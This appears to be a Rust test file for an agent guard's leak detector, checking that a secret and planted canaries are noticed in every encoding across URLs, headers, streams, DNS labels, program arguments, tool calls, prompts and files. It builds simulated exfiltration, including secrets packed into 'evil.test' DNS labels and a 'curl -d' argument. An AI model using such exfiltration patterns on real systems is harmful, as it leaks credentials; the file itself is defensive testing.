//! The leak matrix: every encoding of a value, through every door, whole and split.

use std::sync::Arc;

use creel_doors::leak::{Leaks, Search};
use creel_doors::model::Masks;
use creel_guard::{Call, Content, Form, Headers, HostName, Resolve, Run, Send, Target};
use creel_scan::memory;
use creel_testkit::{Encoding, Split};

use super::tests::{Yes, is_allowed, watch_for};
use super::*;
use crate::canary::scratch::Scratch;

const VALUE: &str = "Zq8-Lm2x_Yb7Kc3Nd5Pf9/Hg+2Js4Ua6";

/// One way through a door.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Way {
    /// A query.
    Url,
    /// Headers, a part in each where it is split.
    Header,
    /// A body that a rule reads.
    Content,
    /// The body of a request, a WebSocket, another connection: in pieces of so many bytes.
    Stream(usize),
    /// Labels of a name.
    Label,
    /// Arguments of a program.
    Argument,
    /// Arguments of a tool.
    Tool,
    /// A prompt.
    Prompt,
    /// A file that is written, looked at by the audit.
    File,
}

/// Every door's ways out; a new door has to be put here.
fn ways(door: Door) -> &'static [Way] {
    match door {
        Door::Dns => &[Way::Label],
        Door::Egress => {
            &[Way::Url, Way::Header, Way::Content, Way::Stream(1), Way::Stream(7), Way::Stream(100), Way::Stream(9999)]
        }
        Door::Model => &[Way::Prompt, Way::Tool],
        Door::Exec => &[Way::Argument],
        Door::Files => &[Way::File],
        // What comes in, and what people do.
        Door::Ingress | Door::Control => &[],
    }
}

/// Bytes as text, where a field holds nothing else: as clients write them there.
fn text(way: Way, bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap_or_else(|_| match way {
        Way::Url | Way::Label => bytes.iter().map(|byte| format!("%{byte:02x}")).collect(),
        _ => bytes.iter().map(|byte| char::from(*byte)).collect(),
    })
}

fn send(path: &str, headers: &[(String, String)], content: Option<&str>) -> Deed {
    let content =
        content.map(|text| Content::new(Form::Json, serde_json::Value::String(text.to_owned()), String::new()));
    let headers: Vec<(&str, &[u8])> = headers.iter().map(|(name, value)| (name.as_str(), value.as_bytes())).collect();
    let to = Target::Host(HostName::parse("api.test").unwrap());
    Deed::Send(Send { path: path.to_owned(), headers: Headers::new(headers), content, ..Send::connection(to, 443) })
}

/// Whether what is written so is noticed on this way.
fn is_noticed(watch: &Arc<Watch>, way: Way, encoding: Encoding, split: Split) -> bool {
    is_noticed_of(watch, way, encoding, split, VALUE)
}

fn is_noticed_of(watch: &Arc<Watch>, way: Way, encoding: Encoding, split: Split, value: &str) -> bool {
    let written = encoding.write(value);
    let raw = if encoding.is_text() {
        split.message(&String::from_utf8(written).unwrap()).into_bytes()
    } else {
        [b"some words before it ", &written[..], b" and some behind"].concat()
    };
    let whole = text(way, &raw);
    let refused = |deed| {
        let action = Action { tenant: Tenant::parse("main").unwrap(), actor: Actor::Agent, door: Door::Egress, deed };
        !is_allowed(watch, &action)
    };
    match way {
        Way::Url => refused(send(&format!("/a?{whole}"), &[], None)),
        Way::Header if split == Split::Lines => {
            let lines = whole.lines().enumerate();
            let headers: Vec<(String, String)> = lines.map(|(at, line)| (format!("x-{at}"), line.to_owned())).collect();
            refused(send("/", &headers, None))
        }
        Way::Header => refused(send("/", &[("x-note".to_owned(), whole)], None)),
        Way::Content => refused(send("/", &[], Some(&whole))),
        Way::Stream(size) => {
            let mut search = Search::new(Arc::clone(watch) as Arc<dyn Leaks>);
            raw.chunks(size).any(|piece| search.push(piece).is_err()) || search.finish().is_err()
        }
        Way::Label => {
            let letters: Vec<char> = whole.chars().collect();
            let labels: Vec<String> = letters.chunks(40).map(|label| label.iter().collect()).collect();
            let name = format!("{}.evil.test", labels.join("."));
            refused(Deed::Resolve(Resolve { name, host: None, kind: "A".to_owned() }))
        }
        Way::Argument => {
            let argv = ["curl", "-d", &whole].map(str::to_owned).to_vec();
            refused(Deed::Run(Run { argv, ..Run::default() }))
        }
        Way::Tool => {
            let arguments = serde_json::json!({ "text": whole }).to_string();
            refused(Deed::Call(Call { tool: "write".to_owned(), arguments, call_id: String::new() }))
        }
        Way::Prompt => watch.masked(&whole).is_some_and(|masked| watch.masked(&masked).is_none()),
        Way::File => !memory::audit(&raw, memory::Kind::Memory, &watch.scanner()).is_empty(),
    }
}

#[test]
fn every_encoding_is_noticed_at_every_door_whole_and_split() {
    let home = Scratch::new();
    let watch = watch_for(&home.0, VALUE);
    let mut missed = Vec::new();
    let mut tried = 0;
    for way in Door::ALL.into_iter().flat_map(ways) {
        for encoding in Encoding::ALL {
            for split in Split::ALL {
                // Bytes are not cut over fields of text, and a name has no fields.
                if split != Split::Whole && (!encoding.is_text() || *way == Way::Label) {
                    continue;
                }
                tried += 1;
                if !is_noticed(&watch, *way, encoding, split) {
                    missed.push(format!("{way:?} {encoding:?} {split:?}"));
                }
            }
        }
    }
    assert!(missed.is_empty(), "{} of {tried}:\n{}", missed.len(), missed.join("\n"));
}

/// What is done with a canary.
#[derive(Clone, Copy, Debug)]
enum Taking {
    Read,
    Used,
    Left(Way),
}

#[test]
fn every_canary_is_noticed_at_once_read_used_or_leaving() {
    let nest = Nest::fresh().unwrap();
    let takings = [Taking::Read, Taking::Used].into_iter();
    let takings = takings.chain(Door::ALL.into_iter().flat_map(ways).map(|way| Taking::Left(*way)));
    for taking in takings {
        for canary in &nest.0 {
            let home = Scratch::new();
            let values = nest.0.iter().map(|one| (one.name.as_str(), one.value.as_bytes()));
            let told = (Alerts::new(&[]), None);
            let open = Watch::open(Arc::new(Yes), Known::new(values), &nest, &home.0, Canaries::default(), told);
            let (watch, mut trips) = open.unwrap();
            let (tenant, door) = (Tenant::parse("main").unwrap(), Door::Files);
            match taking {
                // A variable is read unnoticed.
                Taking::Read if canary.place.starts_with('$') => continue,
                Taking::Read => {
                    let deed =
                        Deed::Touch(Touch { how: "open".to_owned(), path: canary.place.clone(), ..Touch::default() });
                    watch.judge(&Action { tenant, actor: Actor::Agent, door, deed }, &Facts::default());
                }
                Taking::Used => {
                    let headers = [("authorization".to_owned(), format!("Bearer {}", canary.value))];
                    let deed = send("/v1/me", &headers, None);
                    watch.judge(&Action { tenant, actor: Actor::Agent, door, deed }, &Facts::default());
                }
                // The audit takes it out of a file, and tells of it by itself.
                Taking::Left(Way::File) => continue,
                Taking::Left(way) => {
                    assert!(is_noticed_of(&watch, way, Encoding::Base64(1), Split::Whole, &canary.value))
                }
            }
            let held = watch.quarantine().map(|quarantine| quarantine.canary);
            let place =
                nest.0.iter().filter(|one| one.place == canary.place).any(|one| held.as_ref() == Some(&one.name));
            assert!(held.as_ref() == Some(&canary.name) || place, "{taking:?} {}: {held:?}", canary.name);
            assert!(trips.try_recv().is_ok(), "people hear of it");
        }
    }
}
